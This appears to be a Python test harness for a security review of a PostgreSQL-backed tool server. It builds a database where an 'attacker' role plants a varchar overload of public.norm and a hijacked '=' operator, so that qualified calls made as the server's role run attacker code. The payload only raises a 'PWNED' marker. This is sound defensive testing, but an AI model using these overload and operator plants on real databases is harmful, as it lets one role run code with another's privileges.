"""attack5's bed: database atk5db on the bed of security-review/bed.py (roles `attacker`, with
legacy CREATE on public and a schema `atk` of its own, and `reader`, the server's role, made
by security-review/setup.py). Everything the DBA makes is owned by the bed's superuser
(trusted); everything planted is the attacker's.

The planted code proves it ran as the server's role: it consumes a transaction ID, sends a
NOTIFY on channel `pwned`, and raises `PWNED as <current_user> (xid N)`."""
from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import asyncpg
from pgbed import with_database

ADMIN = Path(__file__).parent.parent.joinpath(".dsn").read_text()
DSN = with_database(ADMIN, "atk5db")


def as_role(role: str) -> str:
    return DSN.replace("postgres@", f"{role}@", 1)


ATTACKER, READER = as_role("attacker"), as_role("reader")

SETUP = """
GRANT CREATE, USAGE ON SCHEMA public TO attacker;   -- legacy public CREATE rights
CREATE SCHEMA atk AUTHORIZATION attacker;
GRANT USAGE ON SCHEMA atk TO PUBLIC;
CREATE SCHEMA app;
GRANT USAGE ON SCHEMA app TO reader;
CREATE TABLE app.people (id int PRIMARY KEY, name varchar(20));
INSERT INTO app.people VALUES (1, 'Alice'), (2, 'Bob');
GRANT SELECT ON app.people TO reader;
-- The DBA's helper in public (legacy layout), and functions that call it qualified, as the
-- docs advise ("name the objects of those schemas with their schema").
CREATE FUNCTION public.norm(text) RETURNS text IMMUTABLE LANGUAGE sql AS 'SELECT lower($1)';
CREATE FUNCTION app.people_norm() RETURNS SETOF text STABLE LANGUAGE sql
    AS 'SELECT public.norm(p.name) FROM app.people p ORDER BY p.id';
CREATE FUNCTION app.people_norm_pl() RETURNS text STABLE LANGUAGE plpgsql AS $$
BEGIN
    RETURN (SELECT pg_catalog.string_agg(public.norm(p.name), ',' ORDER BY p.id)
            FROM app.people p);
END $$;
CREATE FUNCTION app.people_norm_atomic() RETURNS SETOF text STABLE LANGUAGE sql
    BEGIN ATOMIC SELECT public.norm(p.name) FROM app.people p ORDER BY p.id; END;
-- A no-argument function in public (custom SQL may call those) whose body qualifies too.
CREATE FUNCTION public.people_report() RETURNS text STABLE LANGUAGE sql
    AS 'SELECT pg_catalog.string_agg(public.norm(p.name), '','' ORDER BY p.id) FROM app.people p';
SET ROLE attacker;
CREATE FUNCTION atk.effect() RETURNS text VOLATILE LANGUAGE plpgsql AS $f$
DECLARE x text := pg_catalog.pg_current_xact_id()::text;
BEGIN
    PERFORM pg_catalog.pg_notify('pwned', current_user || ' xid ' || x);
    RAISE EXCEPTION 'PWNED as % (read_only=%, xid %)', current_user,
        pg_catalog.current_setting('transaction_read_only'), x;
END $f$;
GRANT EXECUTE ON FUNCTION atk.effect() TO PUBLIC;
CREATE FUNCTION atk.evil_vc(varchar) RETURNS text IMMUTABLE LANGUAGE plpgsql
    AS 'BEGIN RETURN atk.effect(); END';
CREATE FUNCTION atk.evil_eq(varchar, varchar) RETURNS boolean IMMUTABLE LANGUAGE plpgsql
    AS 'BEGIN RETURN atk.effect() IS NULL; END';
RESET ROLE;
"""
# The overload the attacker plants: an exact match for a varchar argument, which beats the
# DBA's norm(text) (an implicit cast away) wherever `public.norm(<varchar>)` is looked up.
PLANT_NORM = """CREATE OR REPLACE FUNCTION public.norm(varchar) RETURNS text IMMUTABLE
    LANGUAGE sql AS 'SELECT atk.effect()'"""
DROP_NORM = "DROP FUNCTION IF EXISTS public.norm(varchar)"
PLANT_EQ = "CREATE OPERATOR public.= (LEFTARG = varchar, RIGHTARG = varchar, FUNCTION = atk.evil_eq)"
DROP_EQ = "DROP OPERATOR IF EXISTS public.= (varchar, varchar)"


async def reset_db() -> None:
    c = await asyncpg.connect(ADMIN)
    await c.execute("DROP DATABASE IF EXISTS atk5db WITH (FORCE)")
    await c.execute("CREATE DATABASE atk5db TEMPLATE template0")
    await c.close()
    c = await asyncpg.connect(DSN)
    await c.execute(SETUP)
    await c.close()


async def execute(dsn: str, sql: str) -> None:
    c = await asyncpg.connect(dsn)
    try:
        await c.execute(sql)
    finally:
        await c.close()


class Notices:
    """LISTEN pwned as the admin: a NOTIFY from a rolled-back transaction is never delivered,
    so this catches only committed ones; the xid counter is the proof for rolled-back runs."""

    async def next_xid(self) -> int:
        c = await asyncpg.connect(DSN)
        try:
            return int(await c.fetchval(
                "SELECT pg_catalog.pg_snapshot_xmax(pg_catalog.pg_current_snapshot())::text::bigint"))
        finally:
            await c.close()


async def tool(client: Any, name: str, **args: Any) -> tuple[bool, Any]:
    r = await client.call_tool(name, args)
    txt = r.content[0].text if r.content else ""
    try:
        body = json.loads(txt)
    except Exception:
        body = txt
    return (not r.is_error), body


def pwned(body: Any) -> bool:
    return "PWNED" in json.dumps(body)
